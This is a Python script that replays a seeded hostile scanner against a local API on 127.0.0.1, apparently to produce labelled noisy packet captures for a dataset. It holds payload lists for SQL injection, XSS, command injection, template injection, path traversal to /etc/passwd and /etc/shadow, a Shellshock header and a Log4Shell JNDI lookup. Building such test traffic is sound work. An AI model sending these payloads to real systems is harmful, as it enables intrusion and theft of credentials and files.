#!/usr/bin/env python3
"""Scanner traffic for the noisy API captures (apis/<name>-noisy.pcap):
usage scanner.py PORT SPEC TRUTH REQUEST_LOG [--seed N] [--source ADDR] [--rate R]

A hostile client of our own (Python stdlib only), doing what content-discovery
scanners, id fuzzers and exploit kits do to every public host, against the API
on 127.0.0.1:PORT from its own address (default 127.0.0.9), on three
keep-alive connections used in a seeded order (like a scanner's worker
threads), as fast as the server answers (or at most R requests per second,
like ffuf's -rate):

  discovery   the wordlist (apis/scanner-words.txt, ours) at depth 1 under the
              host root and under the API prefix (e.g. /api/v1/<word>), the
              [api] words at depth 2 under every collection
              (/api/v1/users/<word>) and at depth 3 under its items
              (/api/v1/users/<junk id>/<word>); some root probes are HEADs
  junk_id     nonexistent ids under real routes: 999999, -1, abc, random
              UUIDs (seeded), 0x10, ...
  traversal   ../, %2e%2e%2f, ..%2f, %252f (double-encoded), ..\\, ..;/,
              overlong UTF-8 dots, double slashes, traversal in query values
  injection   SQL, XSS, command, template and a few other payloads in query
              parameters of real routes (the spec's own parameters and guessed
              ones), in path parameters, in the JSON body of the login route,
              and in headers (Shellshock, JNDI); percent-encoded,
              '+'-encoded or raw (only what HTTP cannot carry is encoded)

The API's shape (prefix, collections, routes, query parameters, login body)
comes from the app's own OpenAPI document (SPEC), as an API scanner fed with
the spec that all four apps publish would learn it. TRUTH (<name>.truth.tsv)
lists the operations the ordinary clients exercise: a probe that would fall on
a route operation outside that list is left out, so the scanner never adds an
operation to the capture's route table (the orphans stay unexercised).

User-Agents vary per request (seeded): tool UAs (ffuf, gobuster,
feroxbuster, Nikto, sqlmap, Nuclei, zgrab) on some, browser UAs on others.
Everything (probe list, order, UA, connection choice) follows from the seed,
the spec, the truth file and the wordlist, so a re-recording sends the same
requests; only timing and the interleaving with the other clients change.

Every request is logged, in sending order, one TSV row: method, path template
(the spec operation whose template the request path matches, as make_truth.py
matches them, or '-'), URI as sent, status, client ('scanner'), probe kind
(e.g. discovery/1, junk_id, traversal, injection/sqli) and agent (the UA
family). A path with a dot-segment ('.' or '..', also as %2e) or an empty
segment ('//') gets '-': it does not name a route before normalization.
"""
import argparse
import json
import os
import random
import re
import socket
import sys
import time
import uuid
from urllib.parse import quote, quote_plus

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from traffic import OneSendHTTPConnection  # noqa: E402

HERE = os.path.dirname(os.path.abspath(__file__))
METHODS = ("get", "put", "post", "delete", "patch", "head", "options", "trace")

# Tool User-Agents, as those tools send them by default (version numbers ours).
TOOLS = {
    "ffuf": "Fuzz Faster U Fool v2.1.0",
    "gobuster": "gobuster/3.6",
    "feroxbuster": "feroxbuster/2.10.4",
    "nikto": "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:%06d)",
    "sqlmap": "sqlmap/1.8.4#stable (https://sqlmap.org)",
    "nuclei": "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
    "zgrab": "Mozilla/5.0 zgrab/0.x",
}
BROWSERS = {
    "chrome": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
              "Chrome/126.0.0.0 Safari/537.36",
    "firefox": "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "safari": "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
              "Version/17.5 Safari/605.1.15",
    "edge": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/125.0.0.0 Safari/537.36 Edg/125.0.2535.92",
}
# which tools a phase's requests claim to come from
PHASE_TOOLS = {"discovery": ["ffuf", "gobuster", "feroxbuster", "zgrab"], "junk_id": ["ffuf", "nuclei"],
               "traversal": ["nikto", "nuclei"], "injection": ["sqlmap", "nikto", "nuclei"]}

# Payloads (decoded; the encoder decides how they travel).
SQLI = ["' OR 1=1--", "' OR '1'='1", "1' ORDER BY 9--", "admin\" UNION SELECT username,password FROM users--",
        "1 AND SLEEP(5)", "1;WAITFOR DELAY '0:0:5'--", "' AND extractvalue(1,concat(0x7e,version()))--",
        "1) OR (1=1", "'||pg_sleep(5)--", "-1 UNION ALL SELECT NULL,NULL,NULL--"]
XSS = ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(document.cookie)",
       "<svg/onload=alert(1)>", "'-alert(1)-'"]
CMDI = [";id", "|cat /etc/passwd", "$(id)", "`uname -a`", "&& whoami", ";sleep 5"]
SSTI = ["{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.items()}}"]
OTHER = ["http://169.254.169.254/latest/meta-data/", "//evil.example.net/", "\r\nSet-Cookie: scan=1",
         "[$ne]=1", "\x00", "../../../../etc/passwd"]
GUESSED_PARAMS = ["id", "file", "url", "redirect", "callback", "cmd", "debug", "page"]

JUNK = {
    "integer": ["999999", "0", "-1", "2147483648", "1.5", "abc", "1e3", "0x10"],
    "uuid": [None, None, None, "00000000-0000-0000-0000-000000000000", "not-a-uuid", "123"],  # None: random
    "string": ["null", "undefined", "xxxxxxxx", "%20", "*", "NaN", "true", "0", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"],
}


def load_words(path):
    sections, cur = {}, None
    for line in open(path):
        line = line.strip()
        if not line or line.startswith("#"):
            continue
        if line.startswith("[") and line.endswith("]"):
            cur = line[1:-1]
            sections[cur] = []
        else:
            sections[cur].append(line)
    return sections


def template_regex(t):
    return re.compile("^" + re.sub(r"\\\{[^}]+\\\}", "[^/]+", re.escape(t)) + "$")


class Api:
    """What the scanner learns from the spec, and the route labels."""

    def __init__(self, spec_file, truth_file):
        spec = json.load(open(spec_file))
        self.spec = spec
        self.ops = [(m.upper(), p, op, item) for p, item in spec["paths"].items() for m, op in item.items()
                    if m in METHODS]
        self.regex = {p: template_regex(p) for _, p, _, _ in self.ops}
        self.exercised = set()
        for line in open(truth_file):
            if line.strip() and not line.startswith("#"):
                m, t = line.split("\t")[:2]
                self.exercised.add((m, t))
        paths = [p for _, p, _, _ in self.ops]
        segs = [p.strip("/").split("/") for p in paths]
        prefix = []
        for i, s in enumerate(segs[0]):
            if all(len(x) > i + 1 and x[i] == s and "{" not in s for x in segs):
                prefix.append(s)
            else:
                break
        self.prefix = "/" + "/".join(prefix)
        self.slash = all(p.endswith("/") for p in paths)  # Django style

    def rest(self, template):
        return template[len(self.prefix):].strip("/").split("/")

    def label(self, method, uri):
        """The spec template the request path matches (fewest parameters
        first), or '-'."""
        path = uri.split("?", 1)[0]
        segs = path.split("/")[1:]
        if any(s == "" for s in segs[:-1]):
            return "-"
        if any(re.sub("%2e", ".", s, flags=re.I) in (".", "..") for s in segs):
            return "-"
        best = None
        for m, t, _, _ in self.ops:
            if m == method and self.regex[t].match(path):
                if best is None or t.count("{") < best.count("{"):
                    best = t
        return best or "-"

    def matches_any(self, path):
        return any(self.regex[t].match(path) for _, t, _, _ in self.ops)

    def params(self, op, item, where):
        out = []
        for p in item.get("parameters", []) + op.get("parameters", []):
            if "$ref" in p:
                p = self.resolve(p["$ref"])
            if p.get("in") == where:
                sch = p.get("schema", {})
                typ = sch.get("type") or next((a.get("type") for a in sch.get("anyOf", []) if a.get("type") != "null"),
                                              "string")
                if sch.get("format") == "uuid":
                    typ = "uuid"
                out.append((p["name"], typ))
        return out

    def resolve(self, ref):
        node = self.spec
        for part in ref.lstrip("#/").split("/"):
            node = node[part]
        return node


def enc_query(value, mode):
    if mode == "enc":
        return quote(value, safe="")
    if mode == "plus":
        return quote_plus(value, safe="")
    # raw: as a scanner that does not encode writes it; only what cannot
    # appear in a request target (controls, space, '#', '%', non-ASCII) is
    # percent-encoded
    return quote(value, safe="!$&'()*+,;=:@/?[]{}|<>\"`^\\~")


def enc_segment(value, mode):
    if mode == "raw":
        return quote(value, safe="!$&'()*+,;=:@[]{}|<>\"`^\\~")
    return quote(value, safe="")


class Scanner:
    def __init__(self, api, words, seed):
        self.api = api
        self.words = words
        self.rnd = random.Random(seed)
        self.probes = []  # (method, uri, kind, extra headers, body)
        self.nikto_test = 0

    def add(self, method, uri, kind, headers=None, body=None):
        lab = self.api.label(method, uri)
        if lab != "-" and (method, lab) not in self.api.exercised:
            return  # would exercise an operation the ordinary clients never use
        if lab == "-" and method not in ("GET", "POST") and self.api.matches_any(uri.split("?", 1)[0]):
            return  # a HEAD/OPTIONS on a route path would add an operation
        self.probes.append((method, uri, kind, headers or {}, body))

    def junk(self, typ):
        v = self.rnd.choice(JUNK.get(typ, JUNK["string"]))
        if v is None:
            v = str(uuid.UUID(int=self.rnd.getrandbits(128), version=4))
        return v

    def fill(self, template, values=None):
        """Fill a template's parameters with junk (or given values)."""
        out = template
        for name in re.findall(r"\{([^}]+)\}", template):
            v = (values or {}).get(name)
            if v is None:
                v = self.junk(self.ptype(template, name))
            out = out.replace("{%s}" % name, v, 1)
        return out

    def ptype(self, template, name):
        for _, t, op, item in self.api.ops:
            if t == template:
                for n, typ in self.api.params(op, item, "path"):
                    if n == name:
                        return typ
        return "string"

    def word_path(self, base, word, deep):
        w = word
        if deep and self.api.slash and not w.endswith("/"):
            w += "/"
        return base.rstrip("/") + "/" + w

    # ------------------------------------------------------------ phases
    def discovery(self):
        api, words = self.api, self.words
        every = [w for sec in words.values() for w in sec]
        for w in every:  # depth 1 under the host root
            method = "HEAD" if w in words["leaks"] and self.rnd.random() < 0.25 else "GET"
            self.add(method, "/" + w, "discovery/1")
        for w in every:  # depth 1 under the API prefix
            self.add("GET", self.word_path(api.prefix, w, w in words["api"]), "discovery/1")
        colls, items = [], []
        for _, t, _, _ in api.ops:
            rest = api.rest(t)
            if len(rest) >= 2 and rest[0] not in colls and "{" not in rest[0]:
                colls.append(rest[0])
            if len(rest) >= 3 and "{" not in rest[0]:
                base = "/".join(rest[:2])
                if base not in [b for b, _ in items]:
                    items.append((base, t))
        for c in colls:  # depth 2: /prefix/<collection>/<word>
            for w in self.rnd.sample(words["api"], 20):
                self.add("GET", self.word_path(api.prefix + "/" + c, w, True), "discovery/2")
        for base, t in items:  # depth 3: /prefix/<collection>/<item>/<word>
            filled = self.fill(api.prefix + "/" + base)
            for w in self.rnd.sample(words["api"], 10):
                self.add("GET", self.word_path(filled, w, True), "discovery/3")

    def junk_ids(self):
        for m, t, _, _ in self.api.ops:
            if m == "GET" and "{" in t and (m, t) in self.api.exercised:
                for _ in range(6):
                    self.add("GET", self.fill(t), "junk_id")

    def traversal(self):
        api = self.api
        gets = [t for m, t, _, _ in api.ops if m == "GET" and (m, t) in api.exercised]
        coll = api.prefix + "/" + self.rnd.choice(sorted({api.rest(t)[0] for t in gets if "{" in t}))
        tails = [
            "../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
            "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%252f..%252f..%252fetc%252fpasswd",
            "....//....//....//etc/passwd", "..\\..\\..\\windows\\win.ini", "..%5c..%5c..%5cwindows%5cwin.ini",
            "..;/..;/..;/etc/passwd", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
            ".%2e/.%2e/.%2e/etc/shadow", "..%00/etc/passwd",
        ]
        for base in ["", api.prefix, coll]:
            for tail in self.rnd.sample(tails, 8):
                self.add("GET", base + "/" + tail, "traversal")
        # double slashes and normalization tricks around real routes
        g = self.fill(self.rnd.choice([t for t in gets if "{" not in t] or gets))
        p = api.prefix
        for uri in ["//" + p.lstrip("/") + "/" + api.rest(g)[0], p + "//" + "/".join(api.rest(g)),
                    "/" + p.strip("/").split("/")[0] + "//" + "/".join(p.strip("/").split("/")[1:] + api.rest(g)),
                    "//etc/passwd", "///etc//passwd", p + "/./" + "/".join(api.rest(g)),
                    g + "/../../../../etc/passwd", g + "/..%2f..%2f..%2fadmin", p + "/%2e/" + "/".join(api.rest(g)),
                    "/static/..%2f..%2f..%2f..%2fetc%2fpasswd", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"]:
            self.add("GET", uri, "traversal")
        # traversal in query values of real routes
        for name in ["file", "path", "template"]:
            t = self.rnd.choice(gets)
            v = self.rnd.choice(["../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "/etc/passwd",
                                 "....//....//etc/hosts"])
            self.add("GET", self.fill(t) + "?%s=%s" % (name, v), "traversal")

    def injection(self):
        api = self.api
        kinds = [("sqli", SQLI), ("xss", XSS), ("cmdi", CMDI), ("ssti", SSTI), ("other", OTHER)]
        gets = [(t, op, item) for m, t, op, item in api.ops if m == "GET" and (m, t) in api.exercised]
        with_query = [(t, op, item) for t, op, item in gets if api.params(op, item, "query")]
        # query parameters of real routes
        for kind, payloads in kinds:
            n = {"sqli": 16, "xss": 10, "cmdi": 8, "ssti": 8, "other": 6}[kind]
            for i in range(n):
                t, op, item = self.rnd.choice(with_query or gets)
                qp = [name for name, _ in api.params(op, item, "query")]
                name = self.rnd.choice(qp + GUESSED_PARAMS[:2]) if qp else self.rnd.choice(GUESSED_PARAMS)
                mode = self.rnd.choice(["enc", "enc", "plus", "raw"])
                q = "%s=%s" % (name, enc_query(payloads[i % len(payloads)], mode))
                if qp and self.rnd.random() < 0.3:  # with an ordinary parameter beside it
                    other = self.rnd.choice(qp)
                    if other != name:
                        q = "%s=%s&%s" % (other, "1", q) if self.rnd.random() < 0.5 else "%s&%s=1" % (q, other)
                self.add("GET", self.fill(t) + "?" + q, "injection/" + kind)
        # path parameters of real routes
        with_path = [t for t, _, _ in gets if "{" in t]
        for kind, payloads in kinds[:4]:
            for p in self.rnd.sample(payloads, 3):
                t = self.rnd.choice(with_path)
                names = re.findall(r"\{([^}]+)\}", t)
                target = self.rnd.choice(names)
                uri = self.fill(t, {target: enc_segment(p, self.rnd.choice(["enc", "raw"]))})
                self.add("GET", uri, "injection/" + kind)
        # the login route's JSON body
        for m, t, op, item in api.ops:
            last = t.rstrip("/").rsplit("/", 1)[-1]
            if m == "POST" and "{" not in t and last in ("login", "session", "token") and (m, t) in api.exercised:
                schema = op["requestBody"]["content"]["application/json"]["schema"]
                if "$ref" in schema:
                    schema = api.resolve(schema["$ref"])
                props = schema.get("properties", {})
                for p in ["admin' OR '1'='1'--", "admin'--", "admin\" OR \"\"=\"", {"$ne": None}]:
                    body = {}
                    for k, v in props.items():
                        if "pass" in k:
                            body[k] = p if isinstance(p, dict) else "x' OR 'x'='x"
                        elif v.get("type", "string") == "string":
                            body[k] = p
                    self.add("POST", t, "injection/sqli", body=json.dumps(body).encode())
        # headers
        plain = [t for t, _, _ in gets if "{" not in t]
        self.add("GET", "/cgi-bin/status", "injection/cmdi",
                 headers={"User-Agent": "() { :; }; echo; /bin/bash -c 'cat /etc/passwd'"})
        self.add("GET", "/cgi-bin/test.cgi", "injection/cmdi",
                 headers={"Referer": "() { :; }; /bin/sleep 5"})
        for h in ["User-Agent", "X-Api-Version", "X-Forwarded-For"]:
            self.add("GET", self.rnd.choice(plain), "injection/jndi",
                     headers={h: "${jndi:ldap://127.0.0.9:1389/a}"})
        self.add("GET", self.rnd.choice(plain), "injection/sqli",
                 headers={"X-Forwarded-For": "127.0.0.1' AND SLEEP(5)--"})

    def build(self):
        self.discovery()
        self.junk_ids()
        self.traversal()
        self.injection()
        return self.probes

    def persona(self, kind):
        """(agent name, headers) for one request: a tool's UA most of the
        time, a browser's otherwise."""
        phase = kind.split("/")[0]
        if self.rnd.random() < 0.6:
            tool = self.rnd.choice(PHASE_TOOLS[phase])
            ua = TOOLS[tool]
            if tool == "nikto":
                self.nikto_test += 1
                ua = ua % self.nikto_test
            hdrs = {"User-Agent": ua, "Accept": "*/*"}
            if tool in ("ffuf", "feroxbuster", "nuclei"):
                hdrs["Accept-Encoding"] = "gzip"
            return tool, hdrs
        name = self.rnd.choice(sorted(BROWSERS))
        return name, {"User-Agent": BROWSERS[name],
                      "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
                      "Accept-Language": "en-US,en;q=0.9", "Accept-Encoding": "gzip, deflate, br"}


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("port", type=int)
    ap.add_argument("spec")
    ap.add_argument("truth")
    ap.add_argument("log")
    ap.add_argument("--seed", type=int, default=1337)
    ap.add_argument("--source", default="127.0.0.9")
    ap.add_argument("--rate", type=float, default=0, help="at most this many requests per second (0: no limit)")
    ap.add_argument("--words", default=os.path.join(HERE, "scanner-words.txt"))
    ap.add_argument("--dry-run", action="store_true", help="print the requests, send nothing")
    a = ap.parse_args()

    api = Api(a.spec, a.truth)
    sc = Scanner(api, load_words(a.words), a.seed)
    probes = sc.build()
    # the persona and connection of each request are drawn up front too
    plan = []
    for method, uri, kind, extra, body in probes:
        agent, hdrs = sc.persona(kind)
        if "User-Agent" in extra:
            agent = "payload"
        hdrs.update(extra)
        plan.append((method, uri, kind, hdrs, body, agent, sc.rnd.randrange(3)))
    if a.dry_run:
        for method, uri, kind, hdrs, body, agent, conn in plan:
            print("%s\t%s\t%s\t%s\t%s\t%d" % (method, api.label(method, uri), uri, kind, agent, conn))
        return

    log = open(a.log, "w")
    conns = [None, None, None]
    gap = 1.0 / a.rate if a.rate > 0 else 0.0
    t_next = time.monotonic()
    for method, uri, kind, hdrs, body, agent, ci in plan:
        if gap:
            now = time.monotonic()
            if now < t_next:
                time.sleep(t_next - now)
            t_next = max(now, t_next) + gap
        if conns[ci] is None:
            conns[ci] = OneSendHTTPConnection("127.0.0.1", a.port, timeout=10, source_address=(a.source, 0))
        c = conns[ci]
        h = dict(hdrs)
        if body is not None:
            h["Content-Type"] = "application/json"
            h["Content-Length"] = str(len(body))
        c.request(method, uri, body=body, headers=h)
        resp = c.getresponse()
        resp.read()
        # ACK at once (see traffic.Client.call: avoids tail-loss-probe retransmissions)
        if c.sock is not None:
            c.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_QUICKACK, 1)
        log.write("%s\t%s\t%s\t%d\tscanner\t%s\t%s\n" % (method, api.label(method, uri), uri, resp.status, kind, agent))
        log.flush()
        if resp.will_close:
            c.close()
            conns[ci] = None
    for c in conns:
        if c is not None:
            c.close()


if __name__ == "__main__":
    main()
